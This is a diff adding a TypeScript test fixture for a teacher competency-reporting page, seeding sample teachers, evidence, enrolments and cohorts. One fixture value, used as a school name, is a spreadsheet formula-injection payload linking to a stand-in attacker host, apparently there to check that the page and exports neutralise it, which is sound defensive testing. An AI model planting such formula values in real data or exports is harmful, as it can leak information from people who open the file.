@@ -1,0 +1,154 @@
+import { and, eq } from 'drizzle-orm';
+import { getCatalogue } from '../../server/courses/catalogue.ts';
+import type { Db } from '../../server/db/client.ts';
+import { cohortMembers, cohorts, competencyEvidence, enrolments, userRoles } from '../../server/db/schema.ts';
+import { COMPETENCIES } from '../../server/framework/ict-cft.ts';
+import { createTestApp, makeUser, type TestContext, userAgent } from '../helpers.ts';
+
+// A small population whose right answers are worked out by hand in the tests.
+//
+//   teacher  school                region    country  cohorts           enrolments (ICT in Primary Education)
+//   Anna     North School          Yakutia   Russia   Spring 2024       active
+//   Boris    North School          Yakutia   Russia   Spring, Arctic    withdrawn
+//   Clara    South School          Yakutia   Russia   Arctic            active
+//   Dmitri   =HYPERLINK(...)       Murmansk  Russia   -                 active
+//   Erik     Fjord School          Troms     Norway   Arctic            -
+//   Xenia    North School          Yakutia   Russia   (not a teacher: her role is removed; never counted)
+//   the administrator (signed in) is not a teacher either.
+//
+// Evidence (module slugs in brackets; UTC):
+//   Anna   KA.1 2024-02-01 [why-mil-matters] and 2024-03-01 [ict-across-the-curriculum];
+//          KA.2..KA.6 2024-03-31T23:59:59; KD.1 2024-06-15
+//   Boris  KA.1, KA.2 2023-12-31T23:59:59; KA.3 2024-05-05
+//   Clara  all 18 competencies 2024-04-10
+//   Dmitri KA.1 2024-01-01T00:00:00 [why-mil-matters: a Media and Information Literacy module]
+//   Erik   KC.1 2024-04-01T00:00:00
+//   Xenia  KA.1, KD.1 2024-03-01
+
+export const EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?leak","Click")';
+
+export interface Fixture {
+  ctx: TestContext;
+  admin: Awaited<ReturnType<typeof userAgent>>['agent'];
+  ids: Record<'anna' | 'boris' | 'clara' | 'dmitri' | 'erik' | 'xenia', number>;
+  primaryCourseId: number;
+  cohortIds: { spring: number; arctic: number };
+}
+
+function moduleFor(db: Db, code: string, slug?: string) {
+  const carriers = getCatalogue(db).byCompetency(code);
+  const found = slug ? carriers.find((c) => c.module.slug === slug) : carriers[0];
+  if (!found) throw new Error(`no module ${slug ?? ''} for ${code}`);
+  return found;
+}
+
+export function addEvidence(db: Db, userId: number, code: string, when: string, slug?: string): void {
+  const { course, module } = moduleFor(db, code, slug);
+  db.insert(competencyEvidence)
+    .values({ userId, competency: code, moduleId: module.id, courseId: course.id, createdAt: Date.parse(when) })
+    .run();
+}
+
+function dropTeacherRole(db: Db, userId: number): void {
+  db.delete(userRoles)
+    .where(and(eq(userRoles.userId, userId), eq(userRoles.role, 'teacher')))
+    .run();
+}
+
+/** A signed-in administrator who is not also a teacher (makeUser gives everyone the teacher role). */
+export async function adminAgent(ctx: TestContext) {
+  const { user, agent } = await userAgent(ctx, { roles: ['admin'], name: 'Admin' });
+  dropTeacherRole(ctx.db, user.id);
+  return agent;
+}
+
+export async function buildFixture(): Promise<Fixture> {
+  const ctx = createTestApp();
+  const { db } = ctx;
+  const admin = await adminAgent(ctx);
+  const person = async (name: string, school: string, region: string, country: string) =>
+    (await makeUser(db, { name, email: `${name.toLowerCase()}@example.org`, school, region, country })).id;
+  const ids = {
+    anna: await person('Anna', 'North School', 'Yakutia', 'Russia'),
+    boris: await person('Boris', 'North School', 'Yakutia', 'Russia'),
+    clara: await person('Clara', 'South School', 'Yakutia', 'Russia'),
+    dmitri: await person('Dmitri', EVIL_SCHOOL, 'Murmansk', 'Russia'),
+    erik: await person('Erik', 'Fjord School', 'Troms', 'Norway'),
+    xenia: await person('Xenia', 'North School', 'Yakutia', 'Russia'),
+  };
+  dropTeacherRole(db, ids.xenia);
+
+  addEvidence(db, ids.anna, 'KA.1', '2024-02-01T10:00:00Z', 'why-mil-matters');
+  addEvidence(db, ids.anna, 'KA.1', '2024-03-01T10:00:00Z', 'ict-across-the-curriculum');
+  for (const code of ['KA.2', 'KA.3', 'KA.4', 'KA.5', 'KA.6']) addEvidence(db, ids.anna, code, '2024-03-31T23:59:59Z');
+  addEvidence(db, ids.anna, 'KD.1', '2024-06-15T09:00:00Z');
+  addEvidence(db, ids.boris, 'KA.1', '2023-12-31T23:59:59Z');
+  addEvidence(db, ids.boris, 'KA.2', '2023-12-31T23:59:59Z');
+  addEvidence(db, ids.boris, 'KA.3', '2024-05-05T12:00:00Z');
+  for (const c of COMPETENCIES) addEvidence(db, ids.clara, c.code, '2024-04-10T08:00:00Z');
+  addEvidence(db, ids.dmitri, 'KA.1', '2024-01-01T00:00:00Z', 'why-mil-matters');
+  addEvidence(db, ids.erik, 'KC.1', '2024-04-01T00:00:00Z');
+  addEvidence(db, ids.xenia, 'KA.1', '2024-03-01T10:00:00Z');
+  addEvidence(db, ids.xenia, 'KD.1', '2024-03-01T10:00:00Z');
+
+  const primaryCourseId = getCatalogue(db).course('ict-primary-education')!.id;
+  const now = Date.parse('2024-01-01T00:00:00Z');
+  const enrol = (userId: number, status: 'active' | 'withdrawn') =>
+    db.insert(enrolments).values({ userId, courseId: primaryCourseId, status, enrolledAt: now, lastActivityAt: now }).run();
+  enrol(ids.anna, 'active');
+  enrol(ids.boris, 'withdrawn');
+  enrol(ids.clara, 'active');
+  enrol(ids.dmitri, 'active');
+
+  const cohort = (name: string, members: number[]) => {
+    const id = db.insert(cohorts).values({ name, startDate: '2024-01-01', createdAt: now }).returning({ id: cohorts.id }).get().id;
+    for (const userId of members) db.insert(cohortMembers).values({ cohortId: id, userId, addedAt: now }).run();
+    return id;
+  };
+  const cohortIds = { spring: cohort('Spring 2024', [ids.anna, ids.boris]), arctic: cohort('Arctic', [ids.boris, ids.clara, ids.erik]) };
+  return { ctx, admin, ids, primaryCourseId, cohortIds };
+}
+
+/** The figures as a plain object keyed by competency/level code: what every test compares. */
+export type Figures = Record<string, [count: number, percent: number]>;
+
+/** Reads the figures the page renders (data attributes on the heat-map cells and level rows). */
+export function pageSummary(html: string): { teachers: number; figures: Figures } {
+  const figures: Figures = {};
+  const matrix = html.slice(html.indexOf('class="matrix heat-map"'), html.indexOf('</table>', html.indexOf('class="matrix heat-map"')));
+  for (const m of matrix.matchAll(/data-code="([^"]+)" data-count="(\d+)" data-percent="([\d.]+)"/g)) figures[m[1]!] = [Number(m[2]), Number(m[3])];
+  for (const m of html.matchAll(/<tr data-level="(K[ADC])" data-count="(\d+)" data-percent="([\d.]+)"/g)) figures[m[1]!] = [Number(m[2]), Number(m[3])];
+  const teachers = Number(/data-teachers="(\d+)"/.exec(html)?.[1]);
+  return { teachers, figures };
+}
+
+/** Reads the group rows the page renders: name -> teachers and figures. */
+export function pageGroups(html: string): Map<string, { teachers: number; figures: Figures }> {
+  const out = new Map<string, { teachers: number; figures: Figures }>();
+  for (const row of html.matchAll(/<tr data-group="([^"]*)" data-teachers="(\d+)">([\s\S]*?)<\/tr>/g)) {
+    const figures: Figures = {};
+    for (const m of row[3]!.matchAll(/data-(?:code|level)="([^"]+)" data-count="(\d+)" data-percent="([\d.]+)"/g))
+      figures[m[1]!] = [Number(m[2]), Number(m[3])];
+    out.set(unescapeHtml(row[1]!), { teachers: Number(row[2]), figures });
+  }
+  return out;
+}
+
+export function unescapeHtml(text: string): string {
+  return text
+    .replace(/&#34;|&quot;/g, '"')
+    .replace(/&#39;/g, "'")
+    .replace(/&lt;/g, '<')
+    .replace(/&gt;/g, '>')
+    .replace(/&amp;/g, '&');
+}
+
+/** Expected figures from a compact hand-written list; anything not listed is 0 of `teachers`. */
+export function expected(teachers: number, counts: Record<string, number>): Figures {
+  const out: Figures = {};
+  for (const code of [...COMPETENCIES.map((c) => c.code as string), 'KA', 'KD', 'KC']) {
+    const count = counts[code] ?? 0;
+    out[code] = [count, teachers ? Math.round((count * 1000) / teachers) / 10 : 0];
+  }
+  return out;
+}
